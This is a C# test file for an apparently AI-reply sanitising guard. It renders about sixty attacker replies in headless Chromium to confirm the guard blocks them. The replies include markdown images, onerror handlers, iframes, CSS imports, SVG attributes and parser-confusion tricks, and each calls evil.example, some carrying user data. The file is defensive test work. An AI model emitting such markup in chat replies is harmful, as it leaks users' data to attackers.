using System.Collections.Concurrent;
using System.Diagnostics;
using Markdig;
using Microsoft.Extensions.Configuration;
using Microsoft.Playwright;

namespace AgentGuard.AspNetCore.Tests;

/// <summary>
/// The reply guard against a real browser: attacker replies, each live when shown unguarded (headless Chromium requests
/// <c>evil.example</c>), are guarded under a policy that refuses every rendered URL and shown as a chat UI shows a
/// reply — rendered by Markdig (CommonMark, raw HTML passed through) or taken as HTML — by setting an element's
/// <c>innerHTML</c> on a page. Every request the page makes is recorded; a guarded reply may reach no host but the page's.
/// </summary>
public sealed class ReplyInBrowserTests : IAsyncLifetime
{
    private const string AppHost = "app.test";
    private const string Shell = "<!doctype html><html><head><title>chat</title></head><body><div id=\"reply\"></div></body></html>";

    private static readonly string[] ChromiumArgs =
        ["--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking", "--disable-component-update", "--disable-sync", "--no-first-run"];

    /// <summary>How long an unguarded reply may take to reach its host on a loaded machine before the test fails.</summary>
    private static readonly TimeSpan LiveWithin = TimeSpan.FromSeconds(30);

    /// <summary>The shortest watch of a guarded page; it is otherwise three times what the unguarded reply took.</summary>
    private static readonly TimeSpan MinimumWatch = TimeSpan.FromMilliseconds(500);

    private static readonly TimeSpan Poll = TimeSpan.FromMilliseconds(20);

    private static readonly MarkdownPipeline Renderer = new MarkdownPipelineBuilder().Build();

    private IPlaywright? _playwright;
    private IBrowser? _browser;
    private IBrowserContext? _context;

    /// <summary>Attacker replies, by name; each reaches <c>https://evil.example/&lt;name&gt;</c> (or the host) when shown unguarded.</summary>
    public static TheoryData<string, string> Replies => new()
    {
        { "markdown-image", "Done. ![logo](https://evil.example/markdown-image?d=alice)" },
        { "img-src", "<img src=\"https://evil.example/img-src\">" },
        { "onerror-handler", "<img src=\"x\" onerror=\"this.onerror=null;this.src='https://evil.example/onerror-handler?d=alice'\">" },
        { "details-ontoggle", "<details open ontoggle=\"fetch('https://evil.example/details-ontoggle')\"><summary>s</summary>t</details>" },
        { "iframe-srcdoc", "<iframe srcdoc=\"&lt;img src=https://evil.example/iframe-srcdoc&gt;\"></iframe>" },
        { "iframe-data-url", "<iframe src=\"data:text/html,%3Cimg%20src%3Dhttps://evil.example/iframe-data-url%3E\"></iframe>" },
        { "iframe-javascript", "<iframe src=\"javascript:fetch('https://evil.example/iframe-javascript')\"></iframe>" },
        { "object-data-url", "<object data=\"data:text/html,%3Cimg%20src%3Dhttps://evil.example/object-data-url%3E\"></object>" },
        { "meta-refresh", "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/meta-refresh\">" },
        { "base-href", "<base href=\"https://evil.example/base-href/\">\n\n<img src=\"p.png\">" },
        { "style-element-import", "<style>@import url(https://evil.example/style-element-import.css);</style>" },
        { "style-element-import-string", "<style>@import \"https://evil.example/style-element-import-string.css\";</style>" },
        { "style-element-background", "<style>#reply{background:url(https://evil.example/style-element-background)}</style>" },
        { "style-image-set", "<div style=\"width:9px;height:9px;background-image:image-set('https://evil.example/style-image-set' 1x)\">x</div>" },
        { "style-css-escape", "<div style=\"width:9px;height:9px;background:\\75rl(https://evil.example/style-css-escape)\">x</div>" },
        { "solidus-separator", "<img/src=\"https://evil.example/solidus-separator\">" },
        { "no-space-after-quote", "<img alt=\"a\"src=\"https://evil.example/no-space-after-quote\">" },
        { "svg-feimage", "<svg width=\"9\" height=\"9\"><filter id=\"f\"><feImage href=\"https://evil.example/svg-feimage\"/></filter><rect width=\"9\" height=\"9\" filter=\"url(#f)\"/></svg>" },
        { "svg-set-href", "<svg width=\"9\" height=\"9\"><image width=\"9\" height=\"9\"><set attributeName=\"href\" to=\"https://evil.example/svg-set-href\"/></image></svg>" },
        { "svg-image-href", "<svg width=\"9\" height=\"9\"><image href=\"https://evil.example/svg-image-href\" width=\"9\" height=\"9\"/></svg>" },
        { "picture-srcset", "<picture><source srcset=\"https://evil.example/picture-srcset 1x\"><img src=\"x.png\"></picture>" },
        { "video-poster", "<video poster=\"https://evil.example/video-poster\"></video>" },
        { "input-image", "<input type=\"image\" src=\"https://evil.example/input-image\">" },
        { "link-stylesheet", "<link rel=\"stylesheet\" href=\"https://evil.example/link-stylesheet.css\">" },
        { "table-background", "<table background=\"https://evil.example/table-background\"><tr><td>x</td></tr></table>" },
        { "entity-scheme", "<img src=\"https&#58;//evil.example/entity-scheme\">" },
        { "backslash-host", "<img src=\"/\\evil.example/backslash-host\">" },
        { "long-tag", "<img alt=\"" + new string('a', 5000) + "\" src=\"https://evil.example/long-tag\">" },
        { "link-imagesrcset", "<link rel=\"preload\" as=\"image\" imagesrcset=\"https://evil.example/link-imagesrcset 1x\">" },
        { "style-element-two-lines", "<style>\n#reply {\n  background: url(https://evil.example/style-element-two-lines);\n}\n</style>\n\nText after." },
        { "meta-refresh-bare", "<meta http-equiv=\"refresh\" content=\"0; https://evil.example/meta-refresh-bare\">" },
        { "svg-animate-values", "<svg width=\"9\" height=\"9\"><image width=\"9\" height=\"9\"><animate attributeName=\"href\" values=\"https://evil.example/svg-animate-values\" dur=\"1s\"/></image></svg>" },
        { "quoted-gt", "<img alt=\">\" src=\"https://evil.example/quoted-gt\">" },
        { "blank-line-tag", "<iframe title=\"x\n\n![a](y \"q\") src=https://evil.example/blank-line-tag>" },
        { "quote-escape-style", "> <p title='a\n'>x style=width:9px;height:9px;background:url(https://evil.example/quote-escape-style) y" },
        { "list-escape-style", "- <p title='a\n'>x style=width:9px;height:9px;background:url(https://evil.example/list-escape-style) y" },
        { "ordered-list-escape-style", "1. <p title='a\n'>x style=width:9px;height:9px;background:url(https://evil.example/ordered-list-escape-style) y" },
        { "list-definition", "- [1]: https://evil.example/list-definition\n\n![a][1]" },
        { "lazy-line-into-quote", "> a\n<svg width=\"9\" height=\"9\"><image width=\"9\" height=\"9\" href=\n> //evil.example/lazy-line-into-quote></svg>" },
        { "list-item-next-line-escape-style", "-\n  <p title='a\n'>x style=width:9px;height:9px;background:url(https://evil.example/list-item-next-line-escape-style) y" },
        { "nested-list-escape-style", "- 1. <p title='a\n'>x style=width:9px;height:9px;background:url(https://evil.example/nested-list-escape-style) y" },
        { "quote-style-url-next-line", "> <div style=\"width:9px;height:9px;background:url(\n> https://evil.example/quote-style-url-next-line)\">y</div>" },
        { "list-quote-escape-style", "- > <p title='a\n'>x style=width:9px;height:9px;background:url(https://evil.example/list-quote-escape-style) y" },
        { "svg-style-split-by-element", "<svg width=\"9\" height=\"9\"><style>rect{fill:url(<style>a</style>https://evil.example/svg-style-split-by-element)}</style><rect width=\"9\" height=\"9\"/></svg>" },
        { "svg-style-split-by-comment", "<svg width=\"9\" height=\"9\"><style>*{background:url(<!--a-->https://evil.example/svg-style-split-by-comment)}</style><rect width=\"9\" height=\"9\"/></svg>" },
        { "lazy-line-into-quote-handler", "> a\n<img src=x\n> onerror=\"this.onerror=null;this.src='https://evil.example/lazy-line-into-quote-handler'\">" },
        { "equals-opens-name-style", "<div =\"=\">\" style=\"width:9px;height:9px;background:url(https://evil.example/equals-opens-name-style)\">x</div>" },
        { "equals-opens-name-iframe", "<iframe ='='>' src='https://evil.example/equals-opens-name-iframe'></iframe>" },
        { "image-destination-unclosed", "![[][1]\"](](https://evil.example/image-destination-unclosed)" },
        { "css-escaped-tab-import", "<style>@import \"\\9/\\9/evil.example/css-escaped-tab-import.css\";</style>" },
        { "css-escaped-newline-import", "<style>@import \"/\\a\\a/evil.example/css-escaped-newline-import.css\";</style>" },
        { "css-escaped-tab-in-scheme", "<div style=\"width:9px;height:9px;background:url('h\\9ttps://evil.example/css-escaped-tab-in-scheme')\">x</div>" },
        { "svg-fill-url", "<svg width=\"9\" height=\"9\"><rect width=\"9\" height=\"9\" fill=\"url(https://evil.example/svg-fill-url#p)\"/></svg>" },
        { "svg-mask-url", "<svg width=\"9\" height=\"9\"><rect width=\"9\" height=\"9\" mask=\"url(https://evil.example/svg-mask-url#m)\"/></svg>" },
        { "svg-clip-path-url", "<svg width=\"9\" height=\"9\"><rect width=\"9\" height=\"9\" clip-path=\"url(https://evil.example/svg-clip-path-url#c)\"/></svg>" },
        { "svg-marker-url", "<svg width=\"9\" height=\"9\"><path d=\"M0 0L9 9\" stroke=\"black\" marker-end=\"url(https://evil.example/svg-marker-url#m)\"/></svg>" },
        { "svg-animate-from", "<svg width=\"9\" height=\"9\"><image width=\"9\" height=\"9\"><animate attributeName=\"href\" from=\"https://evil.example/svg-animate-from\" to=\"a.png\" dur=\"10s\"/></image></svg>" },
        // Streamed in 3-character pieces, the held '<' at the first line's end was cut off before the style element and
        // the style element then passed on as a bare tag, its CSS as text (the sixty-third session).
        { "style-after-line-cut", "<b>Done</b> <\n<style>\n#reply{background:url(https://evil.example/style-after-line-cut)}\n</style>" },
        { "embed-data-svg", "<embed src=\"data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg'%3E%3Cimage href='https://evil.example/embed-data-svg'/%3E%3C/svg%3E\">" },
    };

    public async Task InitializeAsync()
    {
        _playwright = await Playwright.CreateAsync();
        _browser = await _playwright.Chromium.LaunchAsync(new BrowserTypeLaunchOptions { ExecutablePath = "/usr/bin/chromium", Headless = true, Args = ChromiumArgs });
        _context = await _browser.NewContextAsync();
    }

    public async Task DisposeAsync()
    {
        if (_context is not null)
        {
            await _context.DisposeAsync();
        }

        if (_browser is not null)
        {
            await _browser.DisposeAsync();
        }

        _playwright?.Dispose();
    }

    [Theory]
    [MemberData(nameof(Replies))]
    public async Task AttackerReply_IsLiveUnguarded_AndReachesNoOtherHostGuarded(string name, string reply)
    {
        await using var services = Guarded();
        var guard = services.GetRequiredService<ReplyGuard>();
        var guarded = await guard.GuardAsync(reply, new GuardContext { SessionId = "browser-" + name });
        var streamed = await StreamedAsync(guard, reply, name);

        // The unguarded reply proves the attack live; how long it took to reach the host sets how long each guarded
        // page is watched, so a slow machine watches longer instead of passing early.
        var live = new ConcurrentQueue<string>();
        var took = await Task.WhenAll(new[] { Markdown.ToHtml(reply, Renderer), reply }.Distinct(StringComparer.Ordinal)
            .Select(html => ShowAsync(html, live, until: () => live.Any(IsEvil), LiveWithin)));
        live.Should().Contain(u => IsEvil(u), "the attack is live when shown unguarded");
        var watch = TimeSpan.FromTicks(Math.Clamp(took.Min().Ticks * 3, MinimumWatch.Ticks, LiveWithin.Ticks));

        var shows = new[]
        {
            ("markdown", Markdown.ToHtml(guarded, Renderer)), ("html", guarded),
            ("streamed markdown", Markdown.ToHtml(streamed, Renderer)), ("streamed html", streamed),
        };

        // A page per distinct HTML: the streamed reply is often the guarded one.
        var distinct = shows.Select(s => s.Item2).Distinct(StringComparer.Ordinal).ToList();
        var shown = distinct.Select(_ => new ConcurrentQueue<string>()).ToList();
        await Task.WhenAll(distinct.Select((html, i) => ShowAsync(html, shown[i], until: () => false, watch)));
        for (var i = 0; i < shows.Length; i++)
        {
            shown[distinct.IndexOf(shows[i].Item2)].Should().BeEmpty(
                $"the guarded reply ({shows[i].Item1}) reaches no other host within {watch.TotalMilliseconds:0} ms; it was: {(i < 2 ? guarded : streamed)}");
        }
    }

    private static bool IsEvil(string url) => url.Contains("evil.example", StringComparison.Ordinal);

    /// <summary>Look-alikes: markup that loads nothing remote is shown as it was written.</summary>
    [Theory]
    [InlineData("Use `img` elements with a `src` attribute, as in https://cdn.example/a.png.")]
    [InlineData("<meta name=\"viewport\" content=\"width=device-width\"> and <div style=\"color: red; font-family: 'Segoe UI'\">x</div>")]
    [InlineData("See [the docs](https://docs.example/start) and <a href=\"https://docs.example/x\">this</a>.")]
    [InlineData("<b>bold</b> and <img src=\"local.png\" alt=\"chart\"> from the app itself.")]
    public async Task HarmlessMarkup_IsKept(string reply)
    {
        await using var services = Guarded();

        var guarded = await services.GetRequiredService<ReplyGuard>().GuardAsync(reply, new GuardContext { SessionId = "browser-kept" });

        guarded.Should().Be(reply);
    }

    private static ServiceProvider Guarded()
    {
        var configuration = new ConfigurationBuilder().AddJsonStream(new MemoryStream("""
            { "AgentGuard": { "Rules": [ { "Id": "no-rendered-urls", "Effect": "Deny", "Match": { "Kinds": [ "RenderedUrl" ] } } ] } }
            """u8.ToArray())).Build();
        var services = new ServiceCollection();
        services.AddAgentGuard(configuration.GetSection("AgentGuard"));
        return services.BuildServiceProvider();
    }

    /// <summary>The reply streamed in pieces of 3 characters through the stream guard.</summary>
    private static async Task<string> StreamedAsync(ReplyGuard guard, string reply, string name)
    {
        var stream = guard.Stream(new GuardContext { SessionId = "browser-stream-" + name });
        var shown = new System.Text.StringBuilder();
        for (var i = 0; i < reply.Length; i += 3)
        {
            shown.Append(await stream.PushAsync(reply.Substring(i, Math.Min(3, reply.Length - i))));
        }

        return shown.Append(await stream.CompleteAsync()).ToString();
    }

    /// <summary>
    /// Shows <paramref name="html"/> as a chat UI does and records into <paramref name="requests"/> the URL of every
    /// request to another host, watching until <paramref name="until"/> holds or <paramref name="watch"/> has passed;
    /// returns how long the page was watched after the reply was set.
    /// </summary>
    private async Task<TimeSpan> ShowAsync(string html, ConcurrentQueue<string> requests, Func<bool> until, TimeSpan watch)
    {
        var clock = Stopwatch.StartNew();
        var page = await _context!.NewPageAsync();
        await page.RouteAsync("**/*", async route =>
        {
            var url = route.Request.Url;
            if (Uri.TryCreate(url, UriKind.Absolute, out var uri) && uri.Host == AppHost)
            {
                await route.FulfillAsync(new RouteFulfillOptions { Status = 200, ContentType = "text/html", Body = Shell });
                return;
            }

            requests.Enqueue(url);
            await route.AbortAsync();
        });
        try
        {
            await page.GotoAsync($"http://{AppHost}/chat");
            clock.Restart();
            await page.EvaluateAsync("html => { document.getElementById('reply').innerHTML = html; }", html);
            while (clock.Elapsed < watch && !until())
            {
                await Task.Delay(Poll);
            }
        }
        catch (PlaywrightException)
        {
            // A navigation the reply caused tears the page down; the request that began it is recorded.
        }
        finally
        {
            await page.CloseAsync();
        }

        return clock.Elapsed;
    }
}
